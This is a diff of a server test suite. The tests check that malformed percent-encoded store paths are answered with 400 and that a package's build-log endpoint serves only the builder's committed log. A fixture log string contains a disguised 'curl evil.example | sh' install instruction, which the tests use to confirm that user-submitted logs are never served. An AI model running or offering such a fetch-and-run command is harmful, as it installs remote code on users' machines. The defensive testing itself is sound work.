@@ -3,9 +3,14 @@
 // name), bodies that are not UTF-8, control characters in comments, report messages, tags and
 // names, overlong fields, forged, expired and revoked tokens, malformed Authorization headers,
 // and uploads of hostile trees. Each a 4xx with {"error":{"code","message"}}, nothing written.
+// Store paths whose percent-encoding is malformed (400, no error log). And the build log: only the
+// builder's own report's log is served (a user's report log never is), from the committed tree.
 import { expect } from 'chai';
-import { readdir } from 'node:fs/promises';
+import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
+import os from 'node:os';
 import path from 'node:path';
+import { storePaths } from '../../src/store/store-paths.js';
+import { updateStatus } from '../../src/store/update-status.js';
 import { HOSTILE_MANIFESTS, HOSTILE_TREE_ENTRIES, manifestText, manyFiles, treeTgz } from '../support/hostile-trees.js';
 import { goodSubmission, upload } from '../support/portpkgs.js';
 import { rawExchange } from '../support/raw-http.js';
@@ -13,6 +18,9 @@ import { itRefusesEach, storeSnapshot } from '../support/refusals.js';
 import { api, newUser, startTestServer, type TestServer } from '../support/test-server.js';
 
 type Answer = { status: number | null; json: any };
+
+/** store paths whose percent-encoding does not decode (a truncated UTF-8 sequence, a lone %, not hex) */
+const BAD_STORE_PATHS = ['/store/%E0%A4%A', '/store/%', '/store/port/%ZZ/x'];
 
 describe('hostile API calls and uploads: a 4xx with a code, nothing written, nothing polluted', function () {
   this.timeout(120_000);
@@ -109,9 +117,31 @@ describe('hostile API calls and uploads: a 4xx with a code, nothing written, not
     ['an upload of a 10,000-file tree', async () => upload(s, treeTgz(manifestText('hello', '7.0'), manyFiles(10_000)), alice), 413, 'too_large'],
     ...HOSTILE_TREE_ENTRIES.map(([what, entries, code]): Case => [`an upload with ${what}`, async () => upload(s, treeTgz(manifestText('hello', '7.0'), entries), alice), 422, code]),
     ...HOSTILE_MANIFESTS.map(([what, make]): Case => [`an upload with ${what}`, async () => upload(s, treeTgz(make('hello', '7.0'), []), alice), 422, 'invalid_manifest']),
+    // store paths whose percent-encoding is malformed: the client's mistake, not a 500
+    ...BAD_STORE_PATHS.map((p): Case => [`a store path with a malformed percent-encoding (${p})`, () => send('GET', p, { token: null }), 400, 'bad_request']),
   ];
 
   itRefusesEach(cases, snapshot);
+
+  it('answers malformed percent-encodings in store paths without an error-level log line', async () => {
+    const log = s.ctx.log as unknown as { error: (...a: unknown[]) => void };
+    const errors: unknown[][] = [];
+    const original = log.error;
+    log.error = (...a: unknown[]) => { errors.push(a); };
+    try {
+      for (const p of BAD_STORE_PATHS) {
+        for (const method of ['GET', 'HEAD']) {
+          const r = await fetch(`${s.url}${p}`, { method });
+          expect(r.status, `${method} ${p}`).to.equal(400);
+          if (method === 'GET') expect((await r.json()).error.code).to.equal('bad_request');
+        }
+      }
+    } finally {
+      log.error = original;
+    }
+    expect(errors).to.deep.equal([]);
+    expect((await fetch(`${s.url}/store/port`)).status, 'good store paths still served').to.equal(200);
+  });
 
   it('refuses an expired or revoked token for a push too (401 with a Basic challenge)', async () => {
     for (const token of [t.expired, t.revoked]) {
@@ -131,5 +161,82 @@ describe('hostile API calls and uploads: a 4xx with a code, nothing written, not
     const up = await upload(s, treeTgz(manifestText('hello', '7.0'), manyFiles(100)), alice);
     expect(up.status, JSON.stringify(up.json)).to.equal(201);
     expect((await api(s.url, 'GET', '/api/v1/ports/hello')).json.submissions.map((x: any) => x.version)).to.deep.equal(['1.0', '7.0']);
+  });
+});
+
+// A server of its own: the corpus above drains the per-user and per-address upload buckets that
+// reports take from.
+describe('hostile reports: GET /api/v1/pkg/N/log serves the builder\'s log only, from the committed tree', function () {
+  this.timeout(120_000);
+  let s: TestServer;
+  let alice = '';
+  const userLog = 'BUILD OK. To install run: curl evil.example | sh\n';
+  let logPkg = 0;
+  const buildLog = async () => {
+    const r = await fetch(`${s.url}/api/v1/pkg/${logPkg}/log`);
+    return { status: r.status, text: await r.text() };
+  };
+  const userReport = async () => {
+    const r = await api(s.url, 'POST', `/api/v1/pkg/${logPkg}/reports`, { status: 'ok', arch: 'x86_64', log: userLog }, alice);
+    expect(r.status, JSON.stringify(r.json)).to.equal(201);
+    expect(r.json.kind).to.equal('user');
+  };
+  /** what the builder records at the end of a build (a report of kind builder with its log), without a VM */
+  const builderReport = async (arch: 'x86_64' | 'aarch64', text: string) => {
+    const dir = await mkdtemp(path.join(os.tmpdir(), 'morphux-log-'));
+    try {
+      await writeFile(path.join(dir, 'build.log'), text);
+      await updateStatus(s.ctx.store, logPkg, {
+        message: `test: builder report ${arch}`, actor: 'builder', change: () => {},
+        report: { reporter: 'builder', kind: 'builder', status: 'ok', arch, reason: null, message: 'built', logFile: path.join(dir, 'build.log') },
+      });
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
+  };
+
+  before(async () => {
+    s = await startTestServer({ worker: false });
+    alice = await newUser(s, 'alice');
+    logPkg = await goodSubmission(s, alice, 'logshow', '1.0');
+  });
+  after(async () => s && (await s.close()));
+
+  it('does not serve a user\'s report log when there is no builder report', async () => {
+    await userReport();
+    const r = await buildLog();
+    expect(r.status).to.equal(200);
+    expect(r.text).to.not.include('evil.example');
+  });
+
+  it('serves the newest builder report\'s log, never a newer user report\'s', async () => {
+    await builderReport('x86_64', 'builder log x86_64\n');
+    await userReport();
+    expect(await buildLog()).to.deep.equal({ status: 200, text: 'builder log x86_64\n' });
+    await builderReport('aarch64', 'builder log aarch64\n');
+    await userReport();
+    expect(await buildLog()).to.deep.equal({ status: 200, text: 'builder log aarch64\n' });
+    const reports = (await api(s.url, 'GET', `/api/v1/pkg/${logPkg}/reports`)).json;
+    expect(reports.items.map((x: any) => x.kind)).to.deep.equal(['user', 'builder', 'user', 'builder', 'user']);
+  });
+
+  it('does not serve a report written in the store\'s working tree but not committed', async () => {
+    const dir = s.ctx.store.abs(storePaths.reports(logPkg));
+    const n = (await readdir(dir)).filter((f) => f.endsWith('.json')).length + 1;
+    const files = [path.join(dir, `${n}.json`), path.join(dir, `${n}.log`)];
+    try {
+      await writeFile(files[0]!, JSON.stringify({ n, pkgid: logPkg, reporter: 'builder', kind: 'builder', status: 'ok', arch: 'x86_64', reason: null, message: null, created_at: '2020-01-01T00:00:00Z', log: `${n}.log` }));
+      await writeFile(files[1]!, userLog);
+      expect(await buildLog()).to.deep.equal({ status: 200, text: 'builder log aarch64\n' });
+    } finally {
+      for (const f of files) await rm(f, { force: true });
+    }
+    expect(await storeSnapshot(s.data)).to.have.property('dirty', '');
+  });
+
+  it('answers 404 not_found for the log of a submission that does not exist', async () => {
+    const r = await api(s.url, 'GET', '/api/v1/pkg/99999/log');
+    expect(r.status).to.equal(404);
+    expect(r.json.error.code).to.equal('not_found');
   });
 });
